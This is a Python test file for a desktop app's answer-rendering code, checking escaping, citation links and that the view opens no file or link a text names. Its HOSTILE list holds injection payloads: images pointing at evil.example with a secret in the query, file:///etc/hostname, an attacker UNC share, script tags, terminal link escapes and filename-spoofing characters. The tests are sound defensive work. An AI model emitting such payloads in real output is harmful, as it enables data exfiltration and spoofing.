from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PySide6.QtCore import QUrl
from PySide6.QtGui import QImage

from memory.types import Statement
from tests.ui.fakes import answer, passage
from ui import theme
from ui.render import (
    ReadingView,
    answer_html,
    escaped,
    one_line,
    plain_with_notes,
    shown,
    tooltip,
    words_of,
)

ROOT = Path(__file__).parents[2]
HOSTILE = [
    '<img src="file:///etc/hostname">',
    "![x](file:///etc/hostname)",
    "![x](https://evil.example/?q=secret)",
    "[x][1]\n\n[1]: https://evil.example",
    r"<img src='\\attacker\share\x.png'>",
    "<a href='https://evil.example'>bank</a>",
    "<script>alert(1)</script><style>*{background:url(file:///x)}</style>",
    "\x1b]8;;https://evil.example\x1b\\bank\x1b]8;;\x1b\\",
    "\x1b[31mred\x1b[0m",
    "invoice\u202efdp.exe",
    "ad\u200bmin\u200d\ufeff",
    "tag\U000e0041\U000e0042",
    "&lt;img src=x&gt;",
    "**<img src=x>**",
    "`<img src=x>`",
    '" onclick="x',
    "cite:1 [99] [0] [1](https://evil.example)",
    "half \ud800 a pair",
]
OURS = re.compile(
    r'</?b>|</?code>|<br>|</a>|</span>|<span style="color:#[0-9a-f]{6}">|'
    r'<a href="cite:\d+" style="[a-z0-9:;#-]+">'
)


def only_our_tags(rich: str) -> bool:
    return "<" not in OURS.sub("", rich) and ">" not in OURS.sub("", rich)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_becomes_a_tag(text):
    made = answer(text, statements=(Statement(text, (), supported=False),))

    assert only_our_tags(answer_html(made, theme.LIGHT, "not supported"))
    assert only_our_tags(escaped(text))


@given(st.text(st.sampled_from("<>&\"'`*[]()!1:/\\ \n\x1b]8;a\u202e\u200b="), max_size=40))
def test_no_text_becomes_a_tag(text):
    made = answer(text, statements=(Statement(text[3:9], (), supported=False),))

    assert only_our_tags(answer_html(made, theme.LIGHT, "not supported"))


@pytest.mark.parametrize("text", HOSTILE)
def test_what_cannot_be_seen_is_taken_out(text):
    seen = shown(text)

    assert not re.search(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u206f]", seen
    )
    assert not re.search("[\U000e0000-\U000e0fff\ufeff\ud800-\udfff]", seen)
    assert "evil" not in shown(HOSTILE[7])


def test_lines_and_letters_stay():
    text = "Zoë\tliest\nبالعربية 日本語 – “ja” 🙂"

    assert shown(text) == text
    assert one_line(" a\n b ") == "a b"


def test_marks_lead_to_the_citations_there_are():
    rich = answer_html(answer("Yes [1], no [2]."), theme.LIGHT, "not supported")

    assert 'href="cite:1"' in rich
    assert "cite:2" not in rich
    assert "[2]" in rich


def test_a_mark_stays_with_its_sentence():
    rich = answer_html(answer("Yes. [1]\nNo. [1]"), theme.LIGHT, "not supported")

    assert rich.count("\u00a0<a href") == 2
    assert rich.count("<br>") == 1


def test_an_unsupported_sentence_is_named_by_a_word():
    made = answer(
        "It ends in May [1]. It was cheap.",
        statements=(
            Statement("It ends in May.", (1,), supported=True),
            Statement("It was cheap.", (), supported=False),
        ),
    )
    rich = answer_html(made, theme.LIGHT, "not supported")

    assert "It was cheap. (not supported)" in rich
    assert rich.count("not supported") == 1


def test_a_sentence_is_found_though_marks_stand_in_it():
    made = answer(
        "It ends [1] in May.", statements=(Statement("It ends in May.", (1,), supported=False),)
    )

    assert "not supported" in answer_html(made, theme.LIGHT, "not supported")


def test_a_tooltip_is_never_guessed_to_be_rich():
    assert tooltip("<b>x</b>") == "<qt>&lt;b&gt;x&lt;/b&gt;</qt>"
    assert tooltip("") == ""


def test_only_words_that_say_something_are_set_in_bold():
    assert words_of("When does the lease end?") == ["end", "lease"]


def test_a_copied_answer_names_its_sources():
    assert plain_with_notes(answer("Yes. [1]"), ["Re: lease"]) == "Yes. [1]\n\n[1] Re: lease"


def test_the_view_opens_no_file_that_a_text_names(qtbot, tmp_path):
    picture = tmp_path / "x.png"
    image = QImage(50, 50, QImage.Format.Format_RGB32)
    image.save(str(picture))
    view = ReadingView()
    qtbot.addWidget(view)
    view.show()
    # Past our own escaping on purpose: the view is the second lock.
    view.setHtml(f'<img src="{picture.as_uri()}"><img src="{picture}">')

    assert view.document().size().height() < 45
    loaded = view.document().resource(2, picture.as_uri())
    assert isinstance(loaded, QImage)
    assert loaded.width() == 1


def test_links_of_others_are_inert(qtbot):
    view = ReadingView()
    qtbot.addWidget(view)
    heard: list[str] = []
    view.mark.connect(heard.append)
    for link in ("https://evil.example", "file:///etc/passwd", "cite:1"):
        view._followed(QUrl(link))

    assert heard == ["cite:1"]


def test_a_view_is_as_high_as_ten_thousand_words(qtbot):
    view = ReadingView(fits=True)
    qtbot.addWidget(view)
    view.resize(500, 50)
    view.show()
    view.set_words("word " * 10_000)

    assert view.height() >= view.document().size().height() > 5000


def test_passages_keep_their_text_out_of_reprs():
    assert "lease" not in repr(passage())
    assert Path(passage().path).name not in repr(passage())


def opened(tmp_path: Path, *words: str) -> int:
    """Show hostile text everywhere and return how often the file it names was looked for."""
    strace = shutil.which("strace")
    if strace is None:
        pytest.skip("strace is not installed, so openings of files cannot be counted")
    named, log = tmp_path / "canary.png", tmp_path / "log"
    command = [strace, "-f", "-e", "trace=file", "-o", str(log), sys.executable]
    child = ROOT / "tests" / "ui" / "hostile.py"
    surroundings = os.environ | {"QT_QPA_PLATFORM": "offscreen"}
    done = subprocess.run(
        [*command, str(child), str(named), *words],
        env=surroundings,
        capture_output=True,
        text=True,
        timeout=240,
    )
    if "ptrace" in done.stderr:
        pytest.skip("strace may not watch a process here")

    assert done.returncode == 0, done.stderr[-2000:]
    # The command itself names the file; a call that looks for it does not run a program.
    lines = log.read_text(errors="replace").splitlines()
    return sum(named.name in line and "execve" not in line for line in lines)


def test_no_place_of_the_window_opens_what_a_text_names(tmp_path):
    assert opened(tmp_path) == 0


def test_an_opening_would_have_been_seen(tmp_path):
    assert opened(tmp_path, "in a browser of Qt's own") > 0
